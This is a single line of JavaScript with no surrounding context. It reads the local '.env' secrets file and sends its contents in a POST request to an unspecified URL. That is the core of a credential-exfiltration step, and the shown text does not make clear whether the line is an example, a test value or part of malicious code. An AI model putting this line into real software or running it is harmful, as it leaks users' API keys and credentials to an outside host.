fetch(url, {method: 'POST', body: fs.readFileSync('.env', 'utf8')})
